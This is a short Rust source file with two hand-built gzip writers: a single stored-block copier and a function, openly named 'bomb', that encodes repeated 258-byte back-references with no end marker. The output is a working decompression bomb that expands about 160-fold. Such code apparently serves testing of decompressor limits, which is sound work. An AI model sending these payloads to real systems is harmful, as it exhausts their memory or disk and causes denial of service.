//! Two gzip writers of the simplest kind: a copy in one stored block, and a bomb.

const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

/// A whole gzip file that packs nothing.
pub fn stored(content: &[u8]) -> Vec<u8> {
    let length = u16::try_from(content.len()).unwrap();
    let mut file = HEADER.to_vec();
    file.push(1);
    file.extend(length.to_le_bytes());
    file.extend((!length).to_le_bytes());
    file.extend(content);
    file.extend(crc32(content).to_le_bytes());
    file.extend(u32::from(length).to_le_bytes());
    file
}

/// About `size` spaces in a 160th of that, without an end.
pub fn bomb(size: usize) -> Vec<u8> {
    let mut bits = vec![true, true, false];
    // In the fixed code of RFC 1951, 3.2.6: a space, then "258 bytes from one back", ever again.
    push_code(&mut bits, 0x30 + u16::from(b' '), 8);
    for _ in 0..size / 258 {
        push_code(&mut bits, 0b1100_0101, 8);
        push_code(&mut bits, 0, 5);
    }
    let mut file = HEADER.to_vec();
    file.extend(bits.chunks(8).map(|byte| {
        byte.iter().enumerate().fold(0, |sum, (place, bit)| sum | u8::from(*bit) << place)
    }));
    file
}

fn push_code(bits: &mut Vec<bool>, code: u16, length: u16) {
    bits.extend((0..length).rev().map(|place| code >> place & 1 == 1));
}

fn crc32(content: &[u8]) -> u32 {
    !content.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            if crc & 1 == 1 { crc >> 1 ^ 0xedb8_8320 } else { crc >> 1 }
        })
    })
}
